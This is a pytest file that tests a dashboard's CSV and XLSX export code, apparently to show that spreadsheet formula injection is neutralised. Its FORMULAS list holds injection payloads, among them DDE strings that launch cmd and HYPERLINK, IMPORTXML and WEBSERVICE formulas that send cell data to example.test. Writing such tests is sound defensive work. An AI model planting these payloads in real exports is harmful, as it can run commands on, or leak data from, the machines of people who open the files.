"""Files from lists: cells that stay what they are, whatever somebody has typed into them."""

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from dashboard.services import exports
from dashboard.services.exports import Amount, Column, Sheet, TooManyRows

AT = dt.datetime(2026, 7, 1, 22, 30, 15, 250_000, tzinfo=dt.UTC)

# What makes a spreadsheet compute, call a program or fetch an address when a text begins with it.
FORMULAS = [
    "=1+1",
    "=SUM(A1:A9)",
    '=HYPERLINK("example.test?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("example.test?v=",A2),"//a")',
    '=WEBSERVICE("example.test")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\v=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=",
    "-",
    "=1+1;=2+2",
    '="',
]
HARMLESS = [
    "Mira Holm",
    "Bank transfer TR-20931",
    "1-1",
    "a=b",
    "5 + 5",
    "ana@example.test",
    "'=1+1",
    "–20 %",
    "a;=1+1",
    'a","=1+1',
    "a\n=1+1",
    "Éloïse 王",
]

COLUMNS = [
    Column("Name", "text", lambda row: row[0]),
    Column("Entry", "number", lambda row: row[1]),
    Column("Change", "amount", lambda row: row[2]),
    Column("Time", "time", lambda row: row[3]),
]


def sheet(*rows: tuple[object, ...], timezone: str = "Europe/Malta") -> Sheet:
    """A list of these rows."""
    return Sheet(COLUMNS, iter(rows), timezone)


def as_csv(*rows: tuple[object, ...]) -> str:
    """The whole file, without its mark."""
    return b"".join(exports.csv_pieces(sheet(*rows))).decode("utf-8-sig")


def as_xlsx(folder: Path, *rows: tuple[object, ...]) -> Path:
    """The whole file."""
    path = folder / "list.xlsx"
    exports.write_xlsx(path, sheet(*rows), name="players", about=[("Made by", "Ana Reyes")], made_at=AT)
    return path


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_formula_in_a_csv_is_a_text(typed: str) -> None:
    (_head, (name, *_rest)) = csv.reader(io.StringIO(as_csv((typed, 1, None, None)), newline=""))
    assert name == f"'{typed}"


@pytest.mark.parametrize("typed", HARMLESS)
def test_other_texts_in_a_csv_stay_as_they_are(typed: str) -> None:
    (_head, (name, *_rest)) = csv.reader(io.StringIO(as_csv((typed, 1, None, None)), newline=""))
    assert name == typed


def test_texts_are_quoted_and_numbers_are_not() -> None:
    rows = [
        ("a;=1+1", -7, Amount(-1_234_50, "USD"), AT),
        (None, None, Amount(5, "KWD"), None),
        ("", 0, Amount(-20, "JPY"), None),
    ]
    assert as_csv(*rows).splitlines() == [
        '"Name","Entry","Change","Time"',
        '"a;=1+1",-7,-1234.50,"2026-07-02T00:30:15.250000+02:00"',
        '"","",0.005,""',
        '"",0,-20,""',
    ]


def test_a_csv_says_that_it_is_utf_8() -> None:
    assert b"".join(exports.csv_pieces(sheet())) == b'\xef\xbb\xbf"Name","Entry","Change","Time"\r\n'


def test_a_csv_comes_in_pieces_that_do_not_grow() -> None:
    rows = (("x" * 50, number, Amount(number, "USD"), AT) for number in range(20_000))
    pieces = list(exports.csv_pieces(Sheet(COLUMNS, rows, "UTC")))
    assert len(pieces) > 10
    assert max(map(len, pieces)) < 70_000
    assert b"".join(pieces).count(b"\r\n") == 20_001


def test_both_hours_of_an_autumn_night_can_be_told_apart() -> None:
    night = dt.datetime(2026, 10, 25, 0, 30, tzinfo=dt.UTC)
    text = as_csv(("a", 1, None, night), ("b", 2, None, night + dt.timedelta(hours=1)))
    assert "2026-10-25T02:30:00+02:00" in text
    assert "2026-10-25T02:30:00+01:00" in text


def test_another_program_reads_numbers_texts_and_times_in_an_xlsx(tmp_path: Path) -> None:
    path = as_xlsx(
        tmp_path,
        ("=1+1", 7, Amount(-1_234_50, "USD"), AT),
        ("007", 2**40, Amount(-20, "JPY"), None),
        (None, None, Amount(1_234_567, "KWD"), None),
    )
    book = CalamineWorkbook.from_path(str(path))
    assert book.sheet_names == ["players", "About"]
    found = book.get_sheet_by_name("players").to_python()
    assert found[0] == ["Name", "Entry", "Change", "Time"]
    assert found[1] == ["=1+1", 7.0, -1234.5, AT.replace(day=2, hour=0, tzinfo=None)]
    assert found[2] == ["007", float(2**40), -20.0, ""]
    assert found[3] == ["", "", 1234.567, ""]
    assert book.get_sheet_by_name("About").to_python() == [["Made by", "Ana Reyes"]]


@pytest.mark.parametrize("typed", [*FORMULAS, *HARMLESS, "example.test", "a" * 40_000])
def test_a_text_in_an_xlsx_is_a_text(tmp_path: Path, typed: str) -> None:
    path = as_xlsx(tmp_path, (typed, 1, None, None))
    with zipfile.ZipFile(path) as archive:
        source = archive.read("xl/worksheets/sheet1.xml").decode()
    assert re.search(r'<c r="A2"[^>]* t="inlineStr">', source)
    assert "<f>" not in source
    assert "<hyperlink" not in source
    if typed.isprintable():
        rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
        assert rows[1][0] == typed[:32_767]


def test_the_largest_amounts_keep_their_cents(tmp_path: Path) -> None:
    path = as_xlsx(tmp_path, ("a", 1, Amount(10**15 - 1, "USD"), None), ("b", 1, Amount(1, "USD"), None))
    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
    assert [round(float(row[2]) * 100) for row in rows[1:]] == [10**15 - 1, 1]


def test_what_a_spreadsheet_cannot_hold_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "XLSX_ROWS_MOST", 2)
    rows = [("a", number, None, None) for number in range(3)]
    assert as_xlsx(tmp_path, *rows[:2]).exists()
    with pytest.raises(TooManyRows, match="Take CSV"):
        as_xlsx(tmp_path, *rows)
